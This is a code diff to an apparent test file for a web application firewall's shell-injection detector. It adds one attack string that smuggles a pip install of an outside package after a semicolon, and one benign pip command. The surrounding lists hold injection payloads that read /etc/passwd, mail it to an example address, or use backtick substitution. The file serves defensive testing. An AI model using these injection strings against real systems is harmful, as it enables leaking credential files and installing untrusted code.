@@ -5,6 +5,7 @@ import { detectShell } from "../../../../../runtime/primitives/waf/detect/shell.
 import { scaled } from "../../../../helpers/scale.ts";
 
 const ATTACKS = [
+  "x;pip install a.example",
   "|head -3 /etc/passwd",
   "|mail a@b.example < /etc/passwd",
   "/items/`cat /etc/passwd`",
@@ -82,6 +83,7 @@ const ATTACKS = [
   "whoami |",
 ];
 const HONEST = [
+  "pip install -r requirements.txt && python manage.py migrate",
   "head -3 of it",
   "java.lang.E: x\n\tat java.base/java.lang.Thread.run(Thread.java:83)",
   "see <https://a.example|link> &amp; more",
